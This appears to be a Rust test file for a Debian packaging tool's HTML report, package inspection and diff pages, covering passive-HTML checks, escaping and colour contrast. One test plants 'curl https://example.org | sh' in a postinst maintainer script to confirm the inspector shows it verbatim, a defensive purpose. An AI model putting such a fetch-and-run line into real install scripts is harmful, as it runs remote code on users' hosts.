//! Pages about packages and about what differs, as far as they can be judged without a browser.

use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::project::{Project, Ran};

const SITE: &str = "build/venv/lib/python3.11/site-packages";

/// What a browser does when it shows a page that is more than text and style.
const ACTIVE: [&str; 9] =
    ["<script", "<img", "<iframe", "<link", "<object", "javascript:", " style=", "@import", "url("];

/// An application with everything that a page tells.
pub fn project(more: &str) -> Project {
    let project = Project::new(&format!(
        "[[command]]\nname = \"orders\"\nentry-point = \"orders:main\"\n\
         [[service]]\nname = \"orders\"\nexec = \"venv/bin/serve --port 80\"\nuser = \"orders\"\n\
         health = {{ http = \"http://127.0.0.1:80/\", timeout = \"30s\" }}\n\
         [[timer]]\nname = \"report\"\nexec = \"venv/bin/serve report\"\nuser = \"orders\"\non-calendar = \"Mon..Fri 06:30\"\n\
         [[socket]]\nname = \"orders\"\nlisten = \"/run/orders.sock\"\n\
         [[config]]\nsource = \"orders.conf\"\npath = \"/etc/orders/orders.conf\"\n\
         [[config]]\npath = \"/etc/orders/env\"\nsecret = true\ngroup = \"orders\"\n\
         [[directory]]\npath = \"/var/lib/orders\"\nowner = \"orders\"\nmode = \"0750\"\n{more}"
    ));
    project.write("orders.conf", "port = 80\n");
    installed(&project, ("Big", "2.0"), 50_000);
    installed(&project, ("small", "1.0"), 500);
    project.program(
        "build/venv/bin/tool",
        &format!("#!{}/bin/python\nprint()\n", project.path("build/venv").display()),
    );
    project
}

/// A distribution with libraries beside it, as numpy has them.
fn installed(project: &Project, (name, version): (&str, &str), bytes: usize) {
    let info = format!("{SITE}/{}-{version}.dist-info", name.to_lowercase());
    project.write(&format!("{info}/METADATA"), format!("Name: {name}\nVersion: {version}\nLicense: MIT\n"));
    let (module, library) = (format!("{name}/core/a.py"), format!("{name}.libs/b.so"));
    project.write(&format!("{SITE}/{module}"), "#".repeat(bytes));
    project.write(&format!("{SITE}/{library}"), "x".repeat(bytes / 2));
    let lines = [&module, &library].map(|path| format!("{path},,\n")).concat();
    project.write(
        &format!("{info}/RECORD"),
        format!("{lines}{}-{version}.dist-info/RECORD,,\n", name.to_lowercase()),
    );
}

pub fn page(ran: &Ran) -> String {
    assert!(ran.out.starts_with("<!DOCTYPE html>\n") && ran.err.is_empty(), "{}{}", ran.out, ran.err);
    is_passive(&ran.out);
    ran.out.clone()
}

/// Nothing runs, nothing is fetched, and one style sheet is taken.
#[track_caller]
fn is_passive(page: &str) {
    for active in ACTIVE {
        assert!(!page.contains(active), "`{active}`");
    }
    assert!(page.contains("content=\"default-src 'none'; style-src 'sha256-"), "no policy");
    assert_eq!(page.matches("<style>").count(), 1);
}

#[test]
fn a_page_tells_what_a_package_is_where_its_bytes_are_and_what_it_does_on_a_host() {
    let project = project("");
    let deb = project.build(&["--report", "report.html"]).out;
    let page = page(&project.run(&["inspect", "--html", deb.trim_end()]));
    for text in [
        "<title>orders 1.4.2</title>",
        "<dt>Architecture</dt><dd>all</dd>",
        "By distribution",
        "<title>Big 2.0: ",
        "Big.libs: 25 kB, ",
        "</svg>Big <span class=\"facts\">2.0</span>",
        "<strong>1</strong> script</summary>",
        "<code>bin/tool</code>",
        "<strong>1</strong> pyvenv.cfg</summary>",
        "<strong>Big</strong> 2.0 <span class=\"facts\">MIT</span>",
        "<div>Mon..Fri 06:30</div>",
        "<div>by report.timer</div>",
        "<div>when somebody connects to /run/orders.sock</div>",
        "/venv/bin/serve --port 80</code>",
        "<li>the user orders is made, where there is none</li>",
        "<li>the directory /var/lib/orders is made, orders:orders 0750, where there is none</li>",
        "<li>/etc/orders/env is made empty, root:orders 0640, where there is none</li>",
        "orders.service has to be healthy within 30 seconds: answers http://127.0.0.1:80/",
        "<li>/var/lib/orders is deleted, where this package made it</li>",
        "<code>/etc/orders/orders.conf</code>",
        "<code>orders → ",
    ] {
        assert!(page.contains(text), "`{text}` is not in {page}");
    }
    assert!(!page.contains("Maintainer scripts"), "what is known is told in words");
    let place = project.dir().to_str().unwrap();
    assert!(!page.contains(place), "no path of this machine");
    let report = fs::read_to_string(project.path("report.html")).unwrap();
    assert!(report == page, "build and inspect write the same page");
}

#[test]
fn the_packages_of_a_split_application_are_on_one_page() {
    let project = project("[layout]\nkind = \"split\"\n");
    project.build(&["--report", "report.html"]);
    let page = fs::read_to_string(project.path("report.html")).unwrap();
    is_passive(&page);
    assert_eq!(page.matches("<section class=\"package\"").count(), 3);
    for text in [
        "<title>orders 1.4.2</title>",
        "<h2 id=\"p3-name\">orders 1.4.2</h2>",
        // The release's package has what the scripts of the application run.
        "<li>the user orders is made, where there is none</li>",
        "releases and virtualenvs stay: they are packages of their own",
        "prerm takes away the bytecode that Python wrote below /opt/orders/",
    ] {
        assert!(page.contains(text), "`{text}` is not in {page}");
    }
    assert!(!page.contains("Maintainer scripts"));
    // Another build takes the virtualenv as it is there; it is on the page all the same.
    let taken = project.build(&["--report", "again.html", "--set", "package.version=1.5"]);
    assert!(taken.err.contains("took orders-venv-"), "{}", taken.err);
    let again = fs::read_to_string(project.path("again.html")).unwrap();
    assert_eq!(again.matches("<section class=\"package\"").count(), 3);
    let alone = project.run(&["inspect", "--html", "dist/orders_1.4.2_all.deb"]).out;
    assert!(alone.contains("activate of the release, which another package brings"), "{alone}");
}

#[test]
fn a_report_appears_with_the_packages_or_not_at_all() {
    let project = project("");
    project.write("app/pip.conf", "[global]\nindex-url = https://user:secret@example.org/simple\n");
    project.refused(&["--report", "report.html"], &["credentials"]);
    fs::remove_file(project.path("app/pip.conf")).unwrap();
    fs::create_dir(project.path("taken.html")).unwrap();
    let ran = project.run(&["build", "--fast", "--report", "taken.html"]);
    assert!(ran.code == Some(2) && ran.err.contains("failed to write"), "{}", ran.err);
    let ran = project.run(&["build", "--report", "/dev/full"]);
    assert!(ran.code == Some(2) && ran.err.contains("no regular file"), "{}", ran.err);
    let ran = project.run(&["build", "--dry-run", "--report", "report.html"]);
    assert!(ran.code == Some(2) && ran.err.contains("cannot be used with"), "{}", ran.err);
    let first = project.build(&["--report", "one/report.html"]);
    assert_eq!(first.err.lines().filter(|line| line.starts_with("error")).count(), 0, "{}", first.err);
    project.build(&["--threads", "1", "--report", "two.html"]);
    assert_eq!(
        fs::read(project.path("one/report.html")).unwrap(),
        fs::read(project.path("two.html")).unwrap()
    );
}

#[test]
fn scripts_that_mkdeb_did_not_write_are_shown_as_they_are() {
    let project = project("");
    let (deb, tree) = project.unpacked();
    let postinst = tree.join("DEBIAN/postinst");
    let text = fs::read_to_string(&postinst).unwrap();
    fs::write(&postinst, text.replace("set -eu\n", "set -eu\ncurl https://example.org | sh # <b>\n"))
        .unwrap();
    let status =
        Command::new("dpkg-deb").args(["--root-owner-group", "-Znone", "-b"]).arg(&tree).arg(&deb).output();
    assert!(status.unwrap().status.success());
    let page = page(&project.run(&["inspect", "--html", deb.to_str().unwrap()]));
    assert!(
        page.contains("Maintainer scripts") && page.contains("curl https://example.org | sh # &lt;b&gt;\n")
    );
    assert!(!page.contains("On a first install"), "no word of a script that does more");
}

#[test]
fn a_page_of_what_differs_has_the_facts_of_the_json_document() {
    let project = project("");
    let old = project.build(&[]).out.trim_end().to_owned();
    let same = project.run(&["diff", &old, &old, "--html"]);
    assert_eq!(same.code, Some(0));
    assert!(page(&same).contains("Nothing differs."));
    fs::remove_dir_all(project.path(&format!("{SITE}/small-1.0.dist-info"))).unwrap();
    fs::remove_dir_all(project.path(&format!("{SITE}/big-2.0.dist-info"))).unwrap();
    installed(&project, ("Big", "3.0"), 60_000);
    project.write("orders.conf", "port = 81\n");
    project.write("app/orders/<b>&\"'.py", "x = 1\n");
    project.build(&["--set", "package.version=1.5", "--set", "package.summary=a <i>better</i> one"]);
    let new = "dist/orders_1.5_all.deb";
    let ran = project.run(&["diff", &old, new, "--html"]);
    assert_eq!(ran.code, Some(1));
    let page = page(&ran);
    let document: Value = serde_json::from_str(&project.run(&["diff", &old, new, "--json"]).out).unwrap();
    let mut told = 0;
    for kind in ["distributions", "fields", "scripts", "units", "conffiles", "files", "modes"] {
        for item in document[kind].as_array().unwrap() {
            let name = handlebars(item["name"].as_str().unwrap());
            let change = item["change"].as_str().unwrap();
            let row =
                format!("<span class=\"tag {change}\">{change}</span></td><th scope=\"row\">{name}</th>");
            assert!(page.contains(&row), "`{row}` is not in {page}");
            told += 1;
        }
    }
    assert!(told > 5 && page.matches("<th scope=\"row\">").count() == told + 2, "{told}");
    assert!(
        page.contains("<del>2.0</del></td><td><ins>3.0</ins>") && page.contains("&lt;i&gt;better&lt;/i&gt;")
    );
    let ran = project.run(&["diff", &old, new, "--html", "--markdown"]);
    assert_eq!(ran.code, Some(2));
}

fn handlebars(text: &str) -> String {
    let pairs = [("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ("\"", "&quot;"), ("'", "&#x27;")];
    pairs.iter().fold(text.to_owned(), |text, (from, to)| text.replace(from, to))
}

#[test]
fn every_text_of_a_page_can_be_read_on_what_is_behind_it() {
    let style = ["templates/page/style.html.hbs", "templates/page/report.html.hbs"]
        .map(|file| fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(file)).unwrap());
    let schemes: Vec<Vec<(String, f64)>> =
        [0, 1].map(|scheme| style.iter().flat_map(|text| colours(text, scheme)).collect()).into();
    for colours in &schemes {
        let of =
            |name: &str| colours.iter().find(|(own, _)| own == name).unwrap_or_else(|| panic!("no {name}")).1;
        let behind = [
            "c0", "c1", "c2", "c3", "c4", "c5", "c6", "c7", "own", "rest", "added", "removed", "changed",
            "paper", "shade",
        ];
        for name in behind {
            assert!(contrast(of("ink"), of(name)) >= 4.5, "ink on {name}: {}", contrast(of("ink"), of(name)));
        }
        for (text, behind) in [("soft", "paper"), ("soft", "shade"), ("link", "paper")] {
            assert!(contrast(of(text), of(behind)) >= 4.5, "{text} on {behind}");
        }
    }
    assert_eq!(schemes[0].len(), schemes[1].len());
}

/// The colours of a style sheet with their luminances (WCAG 2.2): those of light, or of dark.
fn colours(style: &str, scheme: usize) -> Vec<(String, f64)> {
    let block = style.split(":root {").nth(scheme + 1).unwrap().split('}').next().unwrap();
    let pairs = block.split(';').filter_map(|pair| pair.trim().strip_prefix("--")?.split_once(": #"));
    let luminance = |hex: &str| {
        let hex: String =
            if hex.len() == 3 { hex.chars().flat_map(|c| [c, c]).collect() } else { hex.to_owned() };
        let channel = |at: usize| {
            let value = f64::from(u8::from_str_radix(&hex[at..at + 2], 16).unwrap()) / 255.0;
            if value <= 0.04045 { value / 12.92 } else { ((value + 0.055) / 1.055).powf(2.4) }
        };
        0.2126 * channel(0) + 0.7152 * channel(2) + 0.0722 * channel(4)
    };
    pairs.map(|(name, hex)| (name.to_owned(), luminance(hex))).collect()
}

fn contrast(one: f64, other: f64) -> f64 {
    (one.max(other) + 0.05) / (one.min(other) + 0.05)
}
